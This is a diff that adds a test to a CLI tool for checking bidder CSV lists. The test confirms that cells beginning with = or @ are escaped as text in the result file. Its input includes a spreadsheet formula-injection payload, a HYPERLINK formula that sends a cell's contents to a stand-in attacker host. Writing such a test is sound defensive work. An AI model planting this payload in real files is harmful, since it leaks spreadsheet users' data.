@@ -279,6 +279,21 @@ describe('xinjian check with the embedded demo data', { timeout: 60_000 }, () =>
     expect(run.code).toBe(EXIT.FAIL);
   });
 
+  it('writes cells a spreadsheet would run as formulas as text, the input cells included', async () => {
+    const input = join(dir, 'formula.csv');
+    const hyperlink = '=HYPERLINK("http://evil.example/?d="&B2,"点击")';
+    await writeFile(
+      input,
+      `投标人名称,统一社会信用代码,备注\r\n"${hyperlink.replaceAll('"', '""')}",${uscc('edge:clean')},@SUM(A1)\r\n`,
+    );
+    await cli(['check', '--csv', input, '-q']);
+    const text = new TextDecoder().decode(await readFile(join(dir, 'formula.result.csv')));
+    const [, row] = parseCsv(text);
+    expect(row?.[0]).toBe(`'${hyperlink}`);
+    expect(row?.[2]).toBe("'@SUM(A1)");
+    expect(row?.[1]).toBe(uscc('edge:clean'));
+  });
+
   it('reports a missing file (66), an empty file and missing columns (65), and never overwrites the list', async () => {
     const missing = await cli(['check', '--csv', join(dir, 'nope.csv')]);
     expect(missing.stderr).toContain(`找不到文件：${join(dir, 'nope.csv')}`);
